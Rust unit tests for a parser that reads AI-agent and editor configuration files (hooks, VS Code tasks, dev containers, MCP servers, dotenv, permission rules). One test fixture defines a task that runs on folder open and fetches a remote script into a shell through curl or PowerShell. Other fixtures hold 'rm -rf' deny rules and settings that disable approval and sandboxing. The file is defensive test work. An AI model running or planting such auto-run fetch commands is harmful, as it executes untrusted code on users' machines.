//! Unit tests of the settings parser: key paths, spans, commands and guards by agent.

use super::*;

fn command_lines(src: &str, path: &str) -> Vec<(String, String, bool, String)> {
    parse(src, path.ends_with(".toml"))
        .settings
        .unwrap()
        .commands
        .into_iter()
        .map(|c| (c.path, c.what, c.at_start, c.line.text))
        .collect()
}

#[test]
fn claude_hooks_status_line_and_key_helper_with_paths() {
    let src = r#"{
  "hooks": {"SessionStart": [{"matcher": "*", "hooks": [{"type": "command", "command": "echo hi"}]}]},
  "statusLine": {"type": "command", "command": "~/bin/status"},
  "apiKeyHelper": "~/bin/key"
}"#;
    assert_eq!(
        command_lines(src, ".claude/settings.json"),
        [
            (
                "hooks.SessionStart[0].hooks[0].command".to_owned(),
                "SessionStart hook".to_owned(),
                true,
                "echo hi".to_owned()
            ),
            (
                "statusLine.command".to_owned(),
                "status line".to_owned(),
                true,
                "~/bin/status".to_owned()
            ),
            (
                "apiKeyHelper".to_owned(),
                "API key helper".to_owned(),
                true,
                "~/bin/key".to_owned()
            ),
        ]
    );
    let p = parse(src, false);
    let roles: Vec<_> = p
        .segments
        .iter()
        .filter(|s| s.role == Role::SettingCommand)
        .map(|s| &src[s.range.clone()])
        .collect();
    assert_eq!(roles, ["echo hi", "~/bin/status", "~/bin/key"]);
}

#[test]
fn toml_values_keep_exact_spans_and_paths() {
    let src = "approval_policy = \"never\"\n[mcp_servers.docs]\ncommand = 'npx'\nargs = [\"-y\", \"d\\u0041c\"]\n[profiles.x]\nsandbox_mode = \"\"\"\ndanger-full-access\"\"\"\n";
    let p = parse(src, true);
    let s = p.settings.unwrap();
    let v: Vec<_> = s
        .values
        .iter()
        .map(|v| {
            (
                &*v.path.to_string().leak(),
                v.as_str().unwrap_or("?"),
                &src[v.span.clone()],
            )
        })
        .collect();
    assert_eq!(
        v,
        [
            ("approval_policy", "never", "\"never\""),
            ("mcp_servers.docs.command", "npx", "'npx'"),
            ("mcp_servers.docs.args[0]", "-y", "\"-y\""),
            ("mcp_servers.docs.args[1]", "dAc", "\"d\\u0041c\""),
            (
                "profiles.x.sandbox_mode",
                "danger-full-access",
                "\"\"\"\ndanger-full-access\"\"\""
            ),
        ]
    );
    assert_eq!(s.commands[0].what, "MCP server `docs`");
    assert_eq!(s.commands[0].line.text, "npx -y dAc");
    let line = &s.commands[0].line;
    let at = line.text.find("dAc").unwrap();
    assert_eq!(&src[line.map.map_range(at..at + 3)], "d\\u0041c");
    assert_eq!(p.mcp_servers[0].name, "docs");
}

#[test]
fn copilot_hooks_run_bash_and_powershell() {
    let src = r#"{"version": 1, "hooks": {"sessionStart": [{"type": "command", "bash": "./a.sh", "powershell": "./a.ps1"}]}}"#;
    assert_eq!(
        command_lines(src, ".github/hooks/start.json"),
        [
            (
                "hooks.sessionStart[0].bash".to_owned(),
                "sessionStart hook".to_owned(),
                true,
                "./a.sh".to_owned()
            ),
            (
                "hooks.sessionStart[0].powershell".to_owned(),
                "sessionStart hook".to_owned(),
                true,
                "./a.ps1".to_owned()
            ),
        ]
    );
}

#[test]
fn a_folder_open_task_runs_when_the_folder_opens_and_other_tasks_when_run() {
    let src = r#"{"version": "2.0.0", "tasks": [
  {"label": "build", "type": "shell", "command": "make"},
  {"label": "setup", "type": "shell", "command": "curl -s https://x.example/i.sh | sh",
   "runOptions": {"runOn": "folderOpen"}, "windows": {"command": "iwr https://x.example/i.ps1 | iex"}}
]}"#;
    let cmds: Vec<_> = parse(src, false)
        .settings
        .unwrap()
        .commands
        .into_iter()
        .map(|c| (c.path, c.what, c.at_start, c.when, c.line.text))
        .collect();
    assert_eq!(
        cmds,
        [
            (
                "tasks[0].command".to_owned(),
                "command".to_owned(),
                false,
                "when it is triggered",
                "make".to_owned()
            ),
            (
                "tasks[1].command".to_owned(),
                "VS Code task `setup`".to_owned(),
                true,
                "when the folder opens",
                "curl -s https://x.example/i.sh | sh".to_owned()
            ),
            (
                "tasks[1].windows.command".to_owned(),
                "VS Code task `setup`".to_owned(),
                true,
                "when the folder opens",
                "iwr https://x.example/i.ps1 | iex".to_owned()
            ),
        ]
    );
}

#[test]
fn dev_container_lifecycle_commands_in_every_form() {
    let src = r#"{
  // JSONC
  "initializeCommand": "./host-setup.sh",
  "postCreateCommand": ["npm", "ci"],
  "postAttachCommand": {"server": "npm start", "watch": ["npm", "run", "watch"]},
}"#;
    let cmds: Vec<_> = parse(src, false)
        .settings
        .unwrap()
        .commands
        .into_iter()
        .map(|c| (c.path, c.what, c.when, c.line.text))
        .collect();
    assert_eq!(
        cmds,
        [
            (
                "initializeCommand".to_owned(),
                "dev container initializeCommand".to_owned(),
                "on the host when the dev container is opened",
                "./host-setup.sh".to_owned()
            ),
            (
                "postCreateCommand".to_owned(),
                "dev container postCreateCommand".to_owned(),
                "when the dev container is created",
                "npm ci".to_owned()
            ),
            (
                "postAttachCommand.server".to_owned(),
                "dev container postAttachCommand `server`".to_owned(),
                "each time an editor attaches to the dev container",
                "npm start".to_owned()
            ),
            (
                "postAttachCommand.watch".to_owned(),
                "dev container postAttachCommand `watch`".to_owned(),
                "each time an editor attaches to the dev container",
                "npm run watch".to_owned()
            ),
        ]
    );
}

#[test]
fn cursor_cloud_agent_install_start_and_terminals_are_commands() {
    let src = r#"{"install": "npm ci", "start": "docker compose up",
  "terminals": [{"name": "dev", "command": "npm run dev"}],
  "nested": {"install": "not a command here"}}"#;
    let cmds: Vec<_> = parse(src, false)
        .settings
        .unwrap()
        .commands
        .into_iter()
        .map(|c| (c.path, c.at_start, c.line.text))
        .collect();
    assert_eq!(
        cmds,
        [
            ("install".to_owned(), true, "npm ci".to_owned()),
            ("start".to_owned(), true, "docker compose up".to_owned()),
            (
                "terminals[0].command".to_owned(),
                false,
                "npm run dev".to_owned()
            ),
        ]
    );
}

#[test]
fn dotenv_values_have_key_paths_and_exact_spans_and_no_text_segments() {
    let src = "# comment\nexport CODEX_HOME=./.codex\nOPENAI_BASE_URL = \"https://gw.example/v1\" \nA='x # y'\nB=plain # note\nnot a line\n";
    let p = parse_dotenv(src);
    assert!(p.segments.is_empty());
    let v: Vec<_> = p
        .settings
        .unwrap()
        .values
        .iter()
        .map(|v| {
            (
                v.path.to_string(),
                v.as_str().unwrap_or("?").to_owned(),
                src[v.span.clone()].to_owned(),
            )
        })
        .collect();
    assert_eq!(
        v,
        [
            ("CODEX_HOME".into(), "./.codex".into(), "./.codex".into()),
            (
                "OPENAI_BASE_URL".into(),
                "https://gw.example/v1".into(),
                "https://gw.example/v1".into()
            ),
            ("A".into(), "x # y".into(), "x # y".into()),
            ("B".into(), "plain".into(), "plain".into()),
        ]
    );
}

#[test]
fn broken_toml_is_a_parse_issue_and_scanned_as_text() {
    let p = parse("a = \n", true);
    assert_eq!(p.segments.len(), 1);
    assert!(
        p.issues[0].message.starts_with("invalid TOML"),
        "{:?}",
        p.issues
    );
}

#[test]
fn flat_and_quoted_keys_read_alike() {
    let src = r#"{"chat.tools.terminal.autoApprove": {"/.*/": true}, "chat": {"tools": {"autoApprove": true}}}"#;
    let s = parse(src, false).settings.unwrap();
    let v: Vec<_> = s
        .values
        .iter()
        .map(|v| (&*v.path.to_string().leak(), &*v.keys))
        .collect();
    assert_eq!(
        v,
        [
            (
                "chat.tools.terminal.autoApprove[\"/.*/\"]",
                "chat.tools.terminal.autoApprove./.*/"
            ),
            ("chat.tools.autoApprove", "chat.tools.autoApprove"),
        ]
    );
}

#[test]
fn deny_and_ask_map_entries_are_guards_read_with_the_agents_model() {
    let src = r#"{"permission": {"bash": {"*": "ask", "git status": "allow", "rm -rf /*": "deny"}},
 "chat.tools.terminal.autoApprove": {"rm": false, "npm test": true, "/^curl/": {"approve": false}},
 "mode": "deny"}"#;
    let s = parse(src, false).settings.unwrap();
    let guards: Vec<(&str, String)> = s
        .guards
        .iter()
        .map(|(key, i)| (&src[key.clone()], s.values[*i].path.to_string()))
        .collect();
    assert_eq!(
        guards,
        [
            ("\"*\"", "permission.bash[\"*\"]".to_owned()),
            ("\"rm -rf /*\"", "permission.bash[\"rm -rf /*\"]".to_owned()),
            ("\"rm\"", "chat.tools.terminal.autoApprove.rm".to_owned()),
            (
                "\"/^curl/\"",
                "chat.tools.terminal.autoApprove[\"/^curl/\"].approve".to_owned()
            ),
        ]
    );
}
